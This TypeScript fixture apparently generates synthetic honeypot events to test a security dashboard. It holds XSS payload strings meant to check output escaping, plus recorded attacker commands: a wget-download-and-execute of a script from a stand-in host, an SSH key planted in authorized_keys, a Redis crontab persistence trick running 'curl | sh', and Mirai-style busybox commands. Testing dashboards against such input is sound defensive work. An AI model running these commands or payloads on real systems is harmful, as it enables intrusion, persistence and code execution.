// A deterministic day of attacker activity against a small fleet, as the agent would upload it:
// scripted attackers (brute force, web scanning, traversal with a reused password, hostile
// payloads aimed at the operator's browser) plus background scanning to fill the charts.
import { formatRfc5424, type ServiceEvent } from '@decnet/protocol';

export const FLEET_INI = `[edge-ssh]
archetype = deaddeck

[web-01]
archetype = web-server
mutate_interval = 240

[db-01]
archetype = database-server

[files-01]
archetype = file-server

[dc-01]
archetype = domain-controller

[iot-cam]
archetype = iot-device
`;

/** Strings that would run script if the dashboard ever interpreted attacker data as HTML. */
export const HOSTILE = {
  username: '<img src=x onerror="window.__pwned=1">',
  password: '"><script>window.__pwned=2</script>',
  userAgent: "<script>window.__pwned=3</script> Mozilla/5.0",
  path: '/?q=<svg/onload=window.__pwned=4>',
  command: 'echo \u001b[31mred\u001b[0m; mv invoice\u202efdp.exe /tmp',
  url: 'javascript:window.__pwned=5',
  fileName: '<b onmouseover=window.__pwned=6>payload</b>.sh',
};

export interface AttackerScript {
  ip: string;
  behaviorClass: string;
  toolGuesses: string[];
  phases: string[];
}

export const ATTACKERS: AttackerScript[] = [
  { ip: '203.0.113.7', behaviorClass: 'interactive', toolGuesses: ['hydra', 'wget'], phases: ['reconnaissance', 'credential_access', 'execution', 'persistence'] },
  { ip: '198.51.100.23', behaviorClass: 'scanner', toolGuesses: ['zgrab', 'nuclei'], phases: ['reconnaissance', 'initial_access'] },
  { ip: '192.0.2.45', behaviorClass: 'lateral', toolGuesses: ['crackmapexec', 'redis-cli'], phases: ['reconnaissance', 'credential_access', 'lateral_movement', 'discovery'] },
  { ip: '203.0.113.99', behaviorClass: 'interactive', toolGuesses: ['openssh'], phases: ['credential_access', 'execution'] },
  { ip: '198.51.100.150', behaviorClass: 'brute_force', toolGuesses: ['ncrack'], phases: ['reconnaissance', 'credential_access'] },
  { ip: '192.0.2.200', behaviorClass: 'brute_force', toolGuesses: ['medusa'], phases: ['credential_access'] },
  { ip: '203.0.113.50', behaviorClass: 'botnet', toolGuesses: ['mirai'], phases: ['initial_access', 'execution'] },
];

function mulberry32(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');

export function buildDataset(nowMs: number, seed = 7): ServiceEvent[] {
  const rnd = mulberry32(seed);
  const out: ServiceEvent[] = [];
  let n = 0;
  const emit = (tMs: number, decky: string, service: string, eventType: string, ip: string, fields: Record<string, string> = {}, msg?: string) => {
    const srcPort = 30000 + Math.floor(rnd() * 30000);
    const ts = new Date(tMs).toISOString();
    const raw = formatRfc5424({ hostname: decky, appName: service, msgid: eventType, timestamp: ts, params: { src_ip: ip, src_port: srcPort, ...fields }, msg: msg ?? null });
    out.push({ id: `dash-seed-${seed}-${n++}`, ts, decky, service, eventType, srcIp: ip, srcPort, fields, raw, ...(msg ? { msg } : {}) });
  };
  const cred = (principal: string, secret: string, kind = 'plaintext', outcome = 'failure') => ({ principal, username: principal, secret_kind: kind, secret_printable: secret, secret_b64: b64(secret), outcome });
  const h = (hoursAgo: number) => nowMs - hoursAgo * 3_600_000;
  /** Events of one attacker connection carry the session id the templates emit. */
  const session = (sid: string) => (tMs: number, decky: string, service: string, eventType: string, ip: string, fields: Record<string, string> = {}) =>
    emit(tMs, decky, service, eventType, ip, { session_id: sid, ...fields });

  // Background scanning all day, denser in the evening.
  for (let i = 0; i < 260; i++) {
    const hoursAgo = 23.9 * Math.pow(rnd(), 0.8);
    const ip = `198.51.100.${10 + Math.floor(rnd() * 80)}`;
    const [decky, service] = [['web-01', 'http'], ['edge-ssh', 'ssh'], ['db-01', 'mysql'], ['iot-cam', 'telnet'], ['dc-01', 'rdp']][Math.floor(rnd() * 5)]!;
    emit(h(hoursAgo), decky!, service!, 'connect', ip);
  }

  // 1. SSH brute force, success, hands-on-keyboard, payload drop.
  let t = h(20);
  const s1 = session('a1f0c3');
  const pw = ['123456', 'password', 'admin', 'root', 'qwerty', '12345678', 'toor123', 'raspberry'];
  s1(t, 'edge-ssh', 'ssh', 'connect', '203.0.113.7');
  for (let i = 0; i < 24; i++) s1((t += 2500), 'edge-ssh', 'ssh', 'auth_attempt', '203.0.113.7', cred(i % 3 ? 'root' : 'admin', pw[i % pw.length]!));
  s1((t += 2000), 'edge-ssh', 'ssh', 'auth_attempt', '203.0.113.7', cred('root', 'toor', 'plaintext', 'success'));
  for (const cmd of ['uname -a', 'cat /etc/passwd', 'wget http://198.51.100.66/x.sh -O /tmp/x.sh', 'chmod +x /tmp/x.sh && /tmp/x.sh', 'echo "ssh-rsa AAAAB3Nza...attacker" >> ~/.ssh/authorized_keys', 'history -c']) {
    s1((t += 4000 + rnd() * 6000), 'edge-ssh', 'ssh', 'command', '203.0.113.7', { command: cmd });
  }
  s1((t += 1000), 'edge-ssh', 'ssh', 'file_captured', '203.0.113.7', { filename: '/tmp/x.sh', sha256: 'a3f5c1e2'.repeat(8), size: '18432' });
  s1((t += 3000), 'edge-ssh', 'ssh', 'disconnect', '203.0.113.7');

  // 2. Web scanner with hostile user agents and paths.
  t = h(9);
  for (const path of ['/', '/wp-login.php', '/.env', '/admin', '/cgi-bin/luci', '/.git/config', HOSTILE.path, '/api/v1/pods']) {
    emit((t += 800), 'web-01', 'http', 'request', '198.51.100.23', { method: 'GET', path, user_agent: path === '/' ? HOSTILE.userAgent : 'Mozilla/5.0 zgrab/0.x', status: '404' });
  }
  emit((t += 900), 'web-01', 'http', 'auth_attempt', '198.51.100.23', { ...cred('admin', 'admin123', 'plaintext'), path: '/admin' });
  emit((t += 900), 'web-01', 'http', 'request', '198.51.100.23', { method: 'POST', path: '/login', referer: HOSTILE.url, user_agent: 'curl/8.5.0' });

  // 3. Traversal with a reused password across three services and two deckies.
  t = h(6);
  emit(t, 'files-01', 'ssh', 'auth_attempt', '192.0.2.45', cred('svc_backup', 'Winter2024!'));
  emit((t += 60_000), 'files-01', 'smb', 'auth_attempt', '192.0.2.45', cred('CORP\\svc_backup', 'Winter2024!', 'plaintext'));
  emit((t += 60_000), 'db-01', 'mysql', 'auth', '192.0.2.45', cred('svc_backup', 'Winter2024!', 'plaintext'));
  const s3 = session('r3d15');
  s3((t += 30_000), 'db-01', 'redis', 'auth', '192.0.2.45', cred('', 'Winter2024!', 'plaintext', 'success'));
  for (const cmd of ['INFO', 'CONFIG SET dir /var/spool/cron/crontabs', 'CONFIG SET dbfilename root', 'SET x "\\n* * * * * curl -s http://198.51.100.66/c | sh\\n"', 'SAVE']) {
    s3((t += 3000), 'db-01', 'redis', 'command', '192.0.2.45', { command: cmd });
  }

  // 4. Payloads aimed at the dashboard itself.
  t = h(3);
  const s4 = session('b00b5');
  s4(t, 'edge-ssh', 'ssh', 'auth_attempt', '203.0.113.99', cred(HOSTILE.username, HOSTILE.password));
  s4((t += 5000), 'edge-ssh', 'ssh', 'auth_attempt', '203.0.113.99', cred('ubuntu', 'ubuntu', 'plaintext', 'success'));
  s4((t += 5000), 'edge-ssh', 'ssh', 'command', '203.0.113.99', { command: HOSTILE.command });
  s4((t += 5000), 'edge-ssh', 'ssh', 'command', '203.0.113.99', { command: `curl '${HOSTILE.url}'` });
  s4((t += 5000), 'edge-ssh', 'ssh', 'file_captured', '203.0.113.99', { filename: HOSTILE.fileName, sha256: '0b1c2d3e'.repeat(8), size: '512' });

  // 5-7. Windows probing, database brute force, IoT botnet.
  t = h(14);
  emit(t, 'dc-01', 'rdp', 'rdp_cookie', '198.51.100.150', { cookie: 'mstshash=Administrator' });
  for (let i = 0; i < 10; i++) emit((t += 4000), 'dc-01', 'smb', 'auth_attempt', '198.51.100.150', cred(`CORP\\${['Administrator', 'jdoe', 'helpdesk'][i % 3]}`, `${'a1b2c3d4e5f6'.repeat(2)}${i}`, 'ntlmssp_v2'));
  t = h(1.5);
  for (let i = 0; i < 14; i++) emit((t += 1500), 'db-01', i % 2 ? 'postgres' : 'mysql', 'auth', '192.0.2.200', cred(i % 2 ? 'postgres' : 'root', pw[i % pw.length]!, i % 2 ? 'postgres_md5_challenge' : 'mysql_native_password'));
  t = h(0.6);
  const s7 = session('m1ra1');
  s7(t, 'iot-cam', 'telnet', 'auth_attempt', '203.0.113.50', cred('root', 'xc3511', 'plaintext', 'success'));
  for (const cmd of ['enable', 'system', 'shell', 'sh', '/bin/busybox MIRAI']) s7((t += 1200), 'iot-cam', 'telnet', 'command', '203.0.113.50', { command: cmd });

  return out.sort((a, b) => a.ts.localeCompare(b.ts));
}

/** A fresh event for the live stream (used by the mock SSE when /stream does not exist yet). */
export function liveEvent(seq: number, nowMs: number): ServiceEvent & { seq: number } {
  const ips = ['203.0.113.7', '198.51.100.23', '192.0.2.200', '203.0.113.50'];
  const ip = ips[seq % ips.length]!;
  const fields: Record<string, string> = seq % 2 ? { principal: 'root', secret_kind: 'plaintext', secret_printable: `pass${seq}`, secret_b64: b64(`pass${seq}`), outcome: 'failure' } : { command: `cat /proc/cpuinfo # ${seq}` };
  const ts = new Date(nowMs).toISOString();
  const eventType = seq % 2 ? 'auth_attempt' : 'command';
  const raw = formatRfc5424({ hostname: 'edge-ssh', appName: 'ssh', msgid: eventType, timestamp: ts, params: { src_ip: ip, src_port: 40000 + seq, ...fields } });
  return { id: `live-${seq}`, seq, ts, decky: 'edge-ssh', service: 'ssh', eventType, srcIp: ip, srcPort: 40000 + seq, fields, raw };
}
